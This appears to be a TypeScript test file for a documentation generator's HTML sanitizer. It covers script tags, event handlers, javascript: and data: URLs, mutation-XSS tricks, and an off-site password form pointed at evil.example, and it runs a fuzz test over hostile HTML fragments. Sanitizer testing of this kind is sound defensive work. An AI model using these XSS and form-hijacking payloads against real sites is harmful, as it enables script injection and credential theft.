/**
 * Unsafe HTML in Markdown, under either `markdown.html` policy: each form is a located `html-unsafe` error and
 * never reaches the page; `data:image/…` images, https iframes and same-site forms stay; unreadable `style`
 * attributes and tag names React cannot render warn and are left out. A property test throws hostile HTML
 * pieces together and checks that nothing unsafe is ever rendered.
 */
import fc from 'fast-check';
import type { Element } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../../src/markdown/compile.js';
import { loadMarkdownExtensions } from '../../../../src/markdown/extensions.js';
import { compile } from '../../../support/markdown.js';

/** `code line:column` of each diagnostic; the page starts on line 5 (four front-matter lines). */
const where = async (markdown: string) => (await compile(markdown)).diagnostics.map((d) => `${d.code} ${d.line}:${d.column}`);

describe('unsafe HTML', () => {
  const cases: Array<[string, string, RegExp, string, number?]> = [
    ['a script', 'Text\n\n<script>alert(1)</script>', /`<script>` is not allowed/, '<script'],
    ['an SVG script', 'Text\n\n<svg><script>alert(1)</script></svg>', /`<script>` is not allowed/, '<script', 6],
    ['a style sheet import', 'Text\n\n<style>@import url(https://evil.example/x.css);</style>', /loads another style sheet with `@import`/, '@import'],
    ['an escaped import', 'Text\n\n<style>@\\69mport url(https://evil.example/x.css);</style>', /`@import`/, 'evil'],
    ['an event handler', 'Text\n\n<img src="/x.png" onerror="alert(1)">', /event handler attribute `onerror` on `<img>`/, 'onerror'],
    ['a javascript: link', 'Text\n\n<a href="javascript:alert(1)">x</a>', /`<a href="javascript:alert\(1\)">` uses the `javascript:` scheme/, 'javascript:'],
    ['a scheme hidden by a tab and a reference', 'Text\n\n<a href="java&#9;script&colon;alert(1)">x</a>', /`javascript:` scheme/, 'alert'],
    ['a vbscript: source', 'Text\n\n<iframe src="vbscript:x"></iframe>', /`vbscript:` scheme/, 'vbscript'],
    ['a data: frame', 'Text\n\n<iframe src="data:text/html,<b>x</b>"></iframe>', /`data:` scheme/, 'data:'],
    ['a data: link', 'Text\n\n<a href="data:image/png;base64,AA">x</a>', /`data:` scheme/, 'data:'],
    [
      'an SVG xlink:href',
      'Text\n\n<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      /`<a xlink:href="javascript:alert\(1\)">`/,
      'javascript',
      6,
    ],
    [
      'an SVG animation of href',
      'Text\n\n<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
      /changes a link's `href`/,
      'animate',
      9,
    ],
    ['srcdoc', 'Text\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>', /`<iframe srcdoc>`/, 'srcdoc'],
    ['an object', 'Text\n\n<object data="/x.swf"></object>', /`<object>` is not allowed/, '<object'],
    ['an embed', 'Text\n\n<embed src="/x.swf">', /`<embed>` is not allowed/, '<embed'],
    ['a base', 'Text\n\n<base href="https://evil.example/">', /`<base>` is not allowed/, '<base'],
    [
      'a meta refresh to another site',
      'Text\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">',
      /`<meta http-equiv="refresh">` would forward readers to `https:\/\/evil.example`, outside this site/,
      'refresh',
    ],
    ['a meta refresh with another attribute', 'Text\n\n<meta http-equiv="refresh" content="0;url=/x" id="r">', /only to a path of the site/, 'refresh'],
    ['a style sheet link', 'Text\n\n<link rel="stylesheet" href="https://evil.example/x.css">', /`<link rel>` is not allowed/, 'evil'],
    [
      'an off-site form',
      'Text\n\n<form action="https://evil.example/collect"><input name="password"></form>',
      /sends what readers type to another site/,
      'evil',
    ],
    [
      'an off-site formaction',
      'Text\n\n<form><button formaction="//evil.example/c">Go</button></form>',
      /`<button formaction="\/\/evil.example\/c">`/,
      'evil',
      7,
    ],
    ['a docsgen element', 'Text\n\n<docsgen-card title="x" href="/guide/cycles">y</docsgen-card>', /`<docsgen-card>` is a name docsgen keeps/, 'docsgen-card'],
  ];

  it.each(cases)('rejects %s at its line and column and renders none of it', async (_name, markdown, message, leftOut, column = 1) => {
    const result = await compile(markdown);
    expect(result.diagnostics.map((d) => `${d.code} ${d.severity} ${d.line}:${d.column}`)).toEqual([`html-unsafe error 7:${column}`]);
    expect(result.diagnostics[0]!.message).toMatch(message);
    expect(result.bodyHtml).not.toContain(leftOut);
  });

  it('locates inline HTML at its column and each problem of a page at its own line', async () => {
    expect(await where('A <b onclick="x()">bold</b> move.\n\nThen <a href="javascript:void(0)">this</a>\nand <img src=x onload=y>.')).toEqual([
      'html-unsafe 5:3',
      'html-unsafe 7:6',
      'html-unsafe 8:5',
    ]);
  });

  it('reports a misnested tag the parser copies only once', async () => {
    expect(await where('<b onclick="x">a<p>b</b>c')).toEqual(['html-unsafe 5:1']);
  });

  it('rejects unsafe HTML under markdown.html: reject too (as raw HTML)', async () => {
    const result = await compile('<script>alert(1)</script>', { site: { baseUrl: '/', routeOfSourcePath: new Map(), html: 'reject' } });
    expect(result.diagnostics.map((d) => d.code)).toEqual(['raw-html']);
    expect(result.bodyHtml).not.toContain('alert');
  });

  it('keeps data:image images, https iframes, same-site forms and plain styles', async () => {
    const result = await compile(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">\n\n<iframe src="https://www.youtube.com/embed/abc"></iframe>\n\n<form action="/search"><input name="q"></form>\n\n<style>.x { color: red }</style>',
    );
    expect(result.diagnostics).toEqual([]);
    expect(result.bodyHtml).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(result.bodyHtml).toContain('<iframe src="https://www.youtube.com/embed/abc"></iframe>');
    expect(result.bodyHtml).toContain('<form action="/search">');
    expect(result.bodyHtml).toContain('.x { color: red }');
  });

  it('warns about a style attribute React cannot read and leaves it out', async () => {
    const result = await compile('<p style="color red">x</p>');
    expect(result.diagnostics.map((d) => `${d.code} ${d.severity} ${d.line}:${d.column}`)).toEqual(['html-style-invalid warning 5:1']);
    expect(result.bodyHtml).toBe('<p>x</p>');
  });

  it('warns about a tag name React cannot render and keeps its content', async () => {
    const result = await compile('<div>\n<a<b>text</a<b>\n</div>');
    expect(result.diagnostics.map((d) => `${d.code} ${d.severity} ${d.line}:${d.column}`)).toEqual(['html-tag-invalid warning 6:1']);
    expect(result.bodyHtml).toContain('text');
  });

  it('renders what React would refuse the way a browser shows it', async () => {
    expect(await renderMarkdown('<textarea value="ignored">shown</textarea>')).toBe('<textarea>shown</textarea>');
    expect(await renderMarkdown('<svg><area>x</area></svg>')).toBe('<p><svg><area/>x</svg></p>');
  });
});

describe('hostile HTML, thrown together', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      '<script>',
      '</script>',
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:alert(1)">',
      '<a href=" JaVa\tScRiPt:1">',
      '<a href="&#106;avascript:1">',
      '<svg>',
      '</svg>',
      '<math>',
      '<a xlink:href="javascript:1">',
      '<animate attributeName=href to=javascript:1>',
      '<set attributeName="xlink:href" to="javascript:1">',
      '<iframe srcdoc="<script>">',
      '<iframe src="data:text/html,x">',
      '<object data=x>',
      '<embed src=x>',
      '<base href=//evil>',
      '<meta http-equiv=refresh content=0>',
      '<link rel=stylesheet href=//evil>',
      '<style>@import url(//evil)</style>',
      '<style>',
      '</style>',
      '<form action=//evil>',
      '<button formaction=//evil>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<textarea value=x>',
      '</textarea>',
      '<title>',
      '<xmp>',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<docsgen-card href="javascript:1">',
      '<img srcset="javascript:1 1x">',
      '<video poster="javascript:1">',
      '<area href="javascript:1">',
      '<input>',
      '<br>',
      '<a<b>',
      '<table><tr><td>',
      '<template>',
      '<select>',
      '<option>',
      '<div>',
      '</div>',
      '<p>',
      '<b>',
      '<a>',
      '"',
      "'",
      '<',
      '>',
      '\n',
      '\n\n',
      '`',
      'onclick=x ',
      'style="color red"',
    ),
    fc.string({ maxLength: 6 }),
  );
  const URL_PROPERTIES = new Set(['href', 'src', 'srcSet', 'action', 'formAction', 'xLinkHref', 'poster', 'data']);

  function unsafeIn(html: string): string | null {
    let found: string | null = null;
    visit(fromHtml(html, { fragment: true }), 'element', (node: Element) => {
      const props = node.properties;
      if (['script', 'object', 'embed', 'applet', 'base', 'frame', 'frameset'].includes(node.tagName)) found = `<${node.tagName}>`;
      if (node.tagName === 'meta' && props.httpEquiv != null) found = 'meta http-equiv';
      // React adds `<link rel="preload" as="image">` for images itself.
      if (node.tagName === 'link' && props.rel != null && String(props.rel) !== 'preload') found = 'link rel';
      if (node.tagName === 'iframe' && props.srcDoc != null) found = 'srcdoc';
      if (node.tagName === 'style' && /@import/i.test(JSON.stringify(node.children))) found = '@import';
      if ((node.tagName === 'animate' || node.tagName === 'set') && /href/i.test(String(props.attributeName))) found = 'href animation';
      for (const [name, value] of Object.entries(props)) {
        if (/^on/i.test(name)) found = name;
        if (!URL_PROPERTIES.has(name)) continue;
        for (const url of [value].flat().map((v) => String(v).replace(/[\u0000-\u0020]/g, ''))) {
          if (/^(javascript|vbscript|data):/i.test(url) && !(node.tagName === 'img' && /^data:image\//i.test(url))) found = `${name}=${url}`;
          if ((name === 'action' || name === 'formAction') && /^([a-z]+:|\/\/)/i.test(url)) found = `${name}=${url}`;
        }
      }
    });
    return found;
  }

  it('never renders anything unsafe, and never crashes', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join('')),
        async (markdown) => {
          const html = await renderMarkdown(markdown);
          expect(unsafeIn(html), `${JSON.stringify(markdown)} → ${html}`).toBeNull();
        },
      ),
      { seed: 20261123, numRuns: 400 },
    );
  });

  it('sees what it looks for', () => {
    expect(unsafeIn('<a href="java\tscript:1">x</a>')).toBe('href=javascript:1');
    expect(unsafeIn('<img src=x onerror=y>')).toBe('onError');
    expect(unsafeIn('<img src="data:image/png;base64,AA">')).toBeNull();
  });
});

/** What a parser (parse5, with scripting on, as a browser) finds in `html` that could run: scripts, `on*` handlers, styles holding `<`. */
function dangerIn(html: string): string[] {
  const found: string[] = [];
  visit(fromHtml(html, { fragment: true }), 'element', (node: Element) => {
    if (node.tagName === 'script') found.push('script');
    for (const key of Object.keys(node.properties ?? {})) if (/^on/i.test(key)) found.push(`${node.tagName} ${key}`);
    if (node.tagName === 'style' && node.children.some((c) => c.type !== 'text' || c.value.includes('<'))) found.push('style markup');
  });
  return found;
}

describe('HTML a browser would read again as other markup (mutation XSS)', () => {
  const cases: Array<[string, string, RegExp]> = [
    [
      'MathML around a style',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      /`<math>` is not allowed in a docs page: it switches the HTML parser/,
    ],
    ['a style inside SVG', '<svg><style><img src=x onerror=alert(2)></style></svg>', /This `<style>` element holds `<`, or sits inside SVG or MathML/],
    ['a style holding markup', '<style>a::before { content: "<img src=x onerror=alert(3)>" }</style>', /This `<style>` element holds `<`/],
    ['a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(4)>"></noscript>', /`<noscript>` is not allowed in a docs page/],
    ['a template', '<template><img src=x onerror=alert(5)></template>', /`<template>` is not allowed/],
    ['an SVG foreignObject', '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>', /`<foreignObject>` is not allowed/],
    ['an xmp', '<xmp><img src=x onerror=alert(6)></xmp>', /`<xmp>` is not allowed/],
  ];
  it.each(cases)('refuses %s with a located error, and nothing of it is rendered', async (_name, html, message) => {
    const result = await compile(`Text\n\n${html}`);
    const errors = result.diagnostics.filter((d) => d.severity === 'error');
    expect(
      errors.some((d) => message.test(`${d.code} ${d.message}`)),
      errors.map((d) => d.message).join('\n'),
    ).toBe(true);
    expect(errors.every((d) => d.line === 7 && d.file === 'content/docs/guide/modules.md')).toBe(true);
    expect(dangerIn(result.bodyHtml)).toEqual([]);
    expect(result.bodyHtml).not.toMatch(/<(math|noscript|template|xmp|foreignObject)/i);
  });

  it('keeps a plain style element and SVG drawings', async () => {
    expect(await renderMarkdown('<style>.note { color: gray }</style>\n\ntext')).toContain('<style>.note { color: gray }</style>');
    const svg = await compile('<svg viewBox="0 0 10 10" width="10"><title>Dot</title><circle cx="5" cy="5" r="4" fill="red" stroke-width="1"/></svg>');
    expect(svg.diagnostics).toEqual([]);
    expect(svg.bodyHtml).toContain('<circle cx="5" cy="5" r="4" fill="red" stroke-width="1">');
  });
});

describe('the allowlist behind the checks', () => {
  it('keeps what docs use: tables, details, kbd, media, iframes, ids, classes, data-* and aria-*', async () => {
    const html =
      '<details open><summary>More</summary><kbd>Ctrl</kbd></details>\n\n<table><tr><td colspan="2" align="right">x</td></tr></table>\n\n<figure id="f" class="wide" data-x="1" aria-label="Figure"><video src="https://e.example/v.mp4" controls></video></figure>\n\n<iframe src="https://www.youtube.com/embed/x" allowfullscreen loading="lazy"></iframe>\n\n<a name="old-anchor"></a>';
    const result = await compile(html);
    expect(result.diagnostics).toEqual([]);
    for (const kept of [
      '<details open="">',
      '<kbd>Ctrl</kbd>',
      'colSpan="2"',
      'id="f"',
      'class="wide"',
      'data-x="1"',
      'aria-label="Figure"',
      'controls=""',
      'allowFullScreen=""',
      'name="old-anchor"',
    ]) {
      expect(result.bodyHtml.toLowerCase()).toContain(kept.toLowerCase());
    }
  });

  it('unwraps an element not on the list and drops an attribute not on it, each with a warning at its place', async () => {
    const result = await compile('Text\n\n<div foo="bar">a <marquee>b</marquee> c</div>');
    expect(result.diagnostics.map((d) => `${d.code} ${d.severity} ${d.line}`)).toEqual(['html-attribute-dropped warning 7', 'html-element-unknown warning 7']);
    expect(result.bodyHtml).toContain('<div>a b c</div>');
  });

  it("names a dropped attribute as the page wrote it, by HTML's table, not by cutting its property name into words", async () => {
    const result = await compile('Text\n\n<video src="https://cdn.example/a.mp4" disablepictureinpicture margin-left="4"></video>');
    const dropped = result.diagnostics.filter((d) => d.code === 'html-attribute-dropped');
    expect(dropped).toHaveLength(1);
    expect(dropped[0]!.message).toContain('`disablepictureinpicture`');
    expect(dropped[0]!.message).toContain('`margin-left`');
    expect(dropped[0]!.message).not.toContain('disable-picture-in-picture');
  });

  it("drops JSX's `key` without a warning, in MDX and in HTML alike: React's, never the element's", async () => {
    await loadMarkdownExtensions();
    for (const [text, format] of [
      ['<ul>\n  <li key="first">one</li>\n  <li key="second" foo="x">two</li>\n</ul>\n', 'mdx'],
      ['<ul><li key="first">one</li></ul>\n', 'md'],
    ] as const) {
      const result = await compile(text, { format });
      expect(
        result.diagnostics.map((d) => `${d.code} ${d.message}`),
        format,
      ).toEqual(format === 'mdx' ? [expect.stringMatching(/^html-attribute-dropped `<li>` keeps none of `foo`/)] : []);
      expect(result.bodyHtml).not.toContain('key=');
    }
  });

  it('keeps a `<style>` whose CSS an MDX page writes as a string in braces, and refuses one it cannot read as text', async () => {
    // Ionic's docs: MDX reads CSS's own braces as an expression, so a page writes its rules as {`…`}.
    await loadMarkdownExtensions();
    const kept = await compile('Text\n\n<style>{`.notes { color: red; }`}{" .more { margin: 0 }"}</style>\n', { format: 'mdx' });
    expect(kept.diagnostics).toEqual([]);
    expect(kept.bodyHtml).toContain('<style>');
    for (const [text, reason] of [
      ['<style>{`@import url(https://evil.example/x.css);`}</style>', /`@import`/],
      ['<style>{`</style><img src=x onerror=alert(1)>`}</style>', /holds `<`/],
      ['export const css = `.a{}`;\n\n<style>{css}</style>', /holds `<`, or sits inside SVG or MathML/],
      ['<style>{`.a { b: ${1} }`}</style>', /holds `<`, or sits inside SVG or MathML/],
    ] as const) {
      const refused = await compile(`Text\n\n${text}\n`, { format: 'mdx' });
      expect(
        refused.diagnostics.map((d) => `${d.code} ${d.message}`),
        text,
      ).toEqual([expect.stringMatching(new RegExp(`^html-unsafe .*${reason.source}`))]);
      expect(refused.bodyHtml, text).not.toContain('<style');
    }
  });

  it('drops kramdown\'s `markdown` attribute without a warning, as Docusaurus passes it by (Jest\'s `<summary markdown="span">`)', async () => {
    const result = await compile('<details><summary markdown="span">**Title**</summary>\n\nBody.\n\n</details>\n');
    expect(result.diagnostics).toEqual([]);
    expect(result.bodyHtml).toContain('<summary>');
    expect(result.bodyHtml).not.toContain('markdown=');
  });

  it('drops a link whose scheme is not a web, mail or phone address, nor one that opens a known app', async () => {
    const result = await compile('<a href="someapp://open">x</a> <a href="mailto:a@b.example">m</a> <a href="vscode:extension/ionic.ionic">Install</a>');
    expect(result.diagnostics.map((d) => d.code)).toEqual(['html-attribute-dropped']);
    expect(result.bodyHtml).toContain('href="mailto:a@b.example"');
    // Ionic's "Install" button for its editor extension, as Docusaurus keeps it.
    expect(result.bodyHtml).toContain('href="vscode:extension/ionic.ionic"');
    expect(result.bodyHtml).not.toContain('someapp');
  });
});
